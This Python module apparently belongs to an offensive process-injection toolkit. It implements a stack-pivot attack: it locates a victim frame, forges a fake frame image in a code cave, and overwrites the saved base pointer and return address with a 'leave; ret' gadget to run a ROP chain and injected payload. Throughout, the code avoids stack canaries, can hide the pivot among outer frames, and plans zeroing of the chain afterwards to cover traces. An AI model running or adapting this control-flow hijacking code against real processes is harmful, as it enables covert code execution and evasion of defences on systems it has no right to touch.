"""Fake stack frame forging and injection.

The pivot works entirely through data: the victim's saved base pointer is
redirected at a forged frame image inside a cave, and the saved return
address is replaced with the address of a function epilogue (leave; ret).
When the victim function returns, the epilogue runs a second time with the
attacker's frame, popping the original saved base pointer from the image
and then returning into the chain words that follow it.  Stack canaries sit
below the saved-base-pointer slot and are never touched.
"""

from __future__ import annotations

from dataclasses import dataclass

from .memspace import AddressSpace, MemoryFault
from .probe import NotWritableError, Prober, Accessibility
from .gadgets import ChainWord, RopChain
from .caves import CaveRegion


class InjectionError(Exception):
    """Forge or inject could not proceed; memory is left as found."""


@dataclass(frozen=True, slots=True)
class VictimFrame:
    """A located (saved rbp, saved rip) slot pair on the victim stack."""

    rbp_slot_addr: int
    saved_rbp: int
    saved_rip: int
    canary_slot_addr: int | None = None


@dataclass(frozen=True, slots=True)
class RestorationRecord:
    """Register values that resume the victim exactly where its own return
    would have landed it."""

    resume_rip: int
    resume_rbp: int
    resume_rsp: int


@dataclass(frozen=True, slots=True)
class FakeFrameImage:
    """Byte image planted at the cave base.

    ``words[0]`` is the copy of the victim's saved base pointer; the chain
    words follow, ending in the continuation word; an optional payload sits
    after them at the next 16-byte boundary.
    """

    base: int
    words: tuple[ChainWord, ...]
    payload: bytes
    payload_addr: int | None
    restore: RestorationRecord

    def image_bytes(self) -> bytes:
        blob = b"".join(w.value.to_bytes(8, "little") for w in self.words)
        if self.payload:
            pad = (self.payload_addr - self.base) - len(blob)
            blob += bytes(pad) + self.payload
        return blob

    def total_len(self) -> int:
        return len(self.image_bytes())


@dataclass(frozen=True, slots=True)
class InjectionRecord:
    frame: FakeFrameImage
    overwritten: tuple[int, int]  # original (saved rbp, saved rip) words
    cleanup_ranges: tuple[tuple[int, int], ...]


def _align16(n: int) -> int:
    return (n + 15) & ~15


def restoration_record(victim: VictimFrame) -> RestorationRecord:
    """Where execution, stack, and base pointer must end up afterwards: the
    state the victim's own ``leave; ret`` would have produced."""
    return RestorationRecord(
        resume_rip=victim.saved_rip,
        resume_rbp=victim.saved_rbp,
        resume_rsp=victim.rbp_slot_addr + 16,
    )


def locate_victim_frame(
    space: AddressSpace,
    prober: Prober,
    stack_ptr: int,
    stack_region: tuple[int, int],
    codemap: set[int],
    *,
    caller_frames: int = 0,
    expect_canary: bool = True,
) -> VictimFrame:
    """Find the innermost plausible frame above ``stack_ptr``.

    Walks upward at 8-byte alignment looking for a slot whose value points
    higher into the stack region (a frame-pointer chain link) and whose
    neighbor holds a return address landing in a known code page; return
    address pages are validated with a probe, never a bare read.  With
    ``caller_frames`` > 0 the chain is followed that many links up, so the
    pivot can hide between outer frames.  ``expect_canary`` records the slot
    conventionally holding the stack canary, just below the saved base
    pointer.
    """
    lo, hi = stack_region
    if not lo <= stack_ptr < hi:
        raise InjectionError("stack pointer outside the stack region")

    def plausible(slot: int) -> VictimFrame | None:
        try:
            raw = space.read_bytes(slot, 16)
        except MemoryFault:
            return None
        rbp = int.from_bytes(raw[:8], "little")
        rip = int.from_bytes(raw[8:], "little")
        if not (slot < rbp < hi):
            return None
        rip_page = AddressSpace.page_base(rip)
        if rip_page not in codemap:
            return None
        if prober.tap(space, rip_page) is not Accessibility.ACCESSIBLE:
            return None
        return VictimFrame(
            rbp_slot_addr=slot,
            saved_rbp=rbp,
            saved_rip=rip,
            canary_slot_addr=slot - 8 if expect_canary else None,
        )

    slot = (stack_ptr + 7) & ~7
    frame = None
    while slot + 16 <= hi:
        frame = plausible(slot)
        if frame is not None:
            break
        slot += 8
    if frame is None:
        raise InjectionError("no plausible frame above the stack pointer")

    for _ in range(caller_frames):
        frame_up = plausible(frame.saved_rbp)
        if frame_up is None:
            raise InjectionError("frame chain ended before the requested depth")
        frame = frame_up
    return frame


def forge_fake_frame(
    victim: VictimFrame,
    chain: RopChain,
    payload: bytes,
    cave: CaveRegion,
) -> FakeFrameImage:
    """Lay out the frame image for a cave: saved-rbp copy, chain words, a
    continuation word, then the payload at the next 16-byte boundary.

    The continuation is the payload address when a payload is present;
    otherwise the chain ends directly in the victim's original return
    address and execution resumes without running injected code.  Nothing
    is written here; the image is data until inject() plants it.
    """
    words = [ChainWord(victim.saved_rbp, "saved-rbp"), *chain.words]
    head_len = 8 * (len(words) + 1)  # plus the continuation word
    if payload:
        payload_addr = cave.start + _align16(head_len)
        words.append(ChainWord(payload_addr, "resume-address"))
        total = (payload_addr - cave.start) + len(payload)
    else:
        payload_addr = None
        words.append(ChainWord(victim.saved_rip, "resume-address"))
        total = head_len
    if total > cave.length:
        raise InjectionError(
            f"image of {total:#x} bytes exceeds the {cave.length:#x}-byte cave"
        )
    return FakeFrameImage(
        base=cave.start,
        words=tuple(words),
        payload=payload,
        payload_addr=payload_addr,
        restore=restoration_record(victim),
    )


def plan_cleanup(image: FakeFrameImage) -> tuple[tuple[int, int], ...]:
    """Ranges the payload must zero afterwards: the frame word, the chain
    words, and the alignment padding before the payload.  The payload
    cannot be in the set; code cannot zero bytes it has yet to execute."""
    if image.payload_addr is not None:
        length = image.payload_addr - image.base
    else:
        length = 8 * len(image.words)
    return ((image.base, length),)


def inject(
    space: AddressSpace,
    prober: Prober,
    victim: VictimFrame,
    image: FakeFrameImage,
    epilogue_gadget_addr: int,
) -> InjectionRecord:
    """Plant the image and arm the victim frame, all through safe writes.

    Write order: image into the cave, then the saved-base-pointer slot,
    then the saved-return-address slot, so the frame is armed last.  On a
    refused write every completed step is undone in reverse order.  The
    canary slot below the frame is never written.
    """
    slot = victim.rbp_slot_addr
    current = space.read_bytes(slot, 16)
    cur_rbp = int.from_bytes(current[:8], "little")
    cur_rip = int.from_bytes(current[8:], "little")
    if cur_rbp != victim.saved_rbp or cur_rip != victim.saved_rip:
        raise InjectionError(
            "victim frame slots changed since location; already armed?"
        )
    try:
        gadget = space.read_bytes(epilogue_gadget_addr, 2)
    except MemoryFault:
        raise InjectionError("epilogue gadget address is unreadable") from None
    if gadget != b"\xc9\xc3":
        raise InjectionError("epilogue gadget is not a leave; ret site")

    blob = image.image_bytes()
    old_cave = space.read_bytes(image.base, len(blob))
    undo: list[tuple[int, bytes]] = []
    try:
        prober.safe_write(space, image.base, blob)
        undo.append((image.base, old_cave))
        prober.safe_write(space, slot, image.base.to_bytes(8, "little"))
        undo.append((slot, current[:8]))
        prober.safe_write(
            space, slot + 8, epilogue_gadget_addr.to_bytes(8, "little")
        )
    except NotWritableError:
        for addr, original in reversed(undo):
            prober.safe_write(space, addr, original)
        raise
    return InjectionRecord(
        frame=image,
        overwritten=(cur_rbp, cur_rip),
        cleanup_ranges=plan_cleanup(image),
    )
